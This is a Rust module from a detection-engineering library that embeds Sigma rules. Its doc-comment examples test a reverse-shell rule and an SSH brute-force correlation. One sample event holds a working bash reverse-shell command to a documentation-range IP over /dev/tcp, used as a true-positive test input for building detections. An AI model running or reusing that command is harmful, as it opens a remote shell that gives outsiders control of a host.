//! The built-in rule pack: Vigil's own Sigma rules from `rules/` (Linux, network, Windows),
//! embedded in the library at build time so `vigil serve` and `vigil hunt` load them without
//! touching the filesystem.
//!
//! Every rule file carries its own test events under the custom top-level key
//! `x-vigil-tests` (ignored by the loader, as the Sigma specification allows for custom
//! attributes): `true_positives` and `true_negatives` for detection rules, timed `sequences`
//! with the expected number of matches for correlation rules. `tests/builtin.rs` runs them,
//! one test per rule file.
//!
//! ```
//! use vigil_detect::{PipelineSet, builtin_rules};
//!
//! let report = builtin_rules();
//! assert!(report.errors.is_empty());
//! let mut correlations = report.correlation_engine()?;
//! let ruleset = report.into_ruleset_with(&PipelineSet::builtin()?);
//!
//! // A reverse shell started on a Linux host: a detection rule fires on the event itself.
//! let shell = serde_json::json!({
//!     "event": {"category": "process", "type": "start"},
//!     "host": {"os": {"type": "linux"}},
//!     "process": {"executable": "/usr/bin/bash", "command_line": "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}
//! });
//! let titles: Vec<_> = ruleset.matches(&shell).map(|r| r.rule().title.as_str()).collect();
//! assert_eq!(titles, ["Reverse Shell Through /dev/tcp"]);
//!
//! // Ten failed SSH logins from one address within five minutes: a correlation fires.
//! let failed = serde_json::json!({
//!     "event": {"dataset": "auth"}, "process": {"name": "sshd"},
//!     "host": {"name": "bastion-1"}, "source": {"ip": "203.0.113.9"},
//!     "message": "Failed password for root from 203.0.113.9 port 52144 ssh2"
//! });
//! let mut alerts = Vec::new();
//! for second in 0..10 {
//!     let matched: Vec<_> = ruleset.matches(&failed).collect();
//!     alerts.extend(correlations.process_rules(second * 1000, &matched, &failed));
//! }
//! assert!(alerts.iter().any(|a| a.title == "SSH Brute Force"));
//! # Ok::<(), vigil_detect::Error>(())
//! ```

use std::path::PathBuf;

use crate::engine::{LoadReport, load_sources};
use crate::value::CompileOptions;

include!(concat!(env!("OUT_DIR"), "/builtin_rules.rs"));

/// Loads the built-in pack: detection rules, correlations (with their base rules resolved)
/// and filters. Errors name the file as `builtin:rules/<path>`; the crate's tests keep them
/// at zero. [`crate::load`] loads it together with rule directories.
pub fn builtin_rules() -> LoadReport {
    let paths: Vec<(PathBuf, &str)> = sources().collect();
    load_sources(
        paths.iter().map(|(p, t)| (p.as_path(), *t)),
        &CompileOptions::default(),
    )
}

/// The pack's files as `(builtin:rules/<path>, text)`.
pub(crate) fn sources() -> impl Iterator<Item = (PathBuf, &'static str)> {
    BUILTIN_RULE_FILES
        .iter()
        .map(|(path, text)| (PathBuf::from(format!("builtin:rules/{path}")), *text))
}
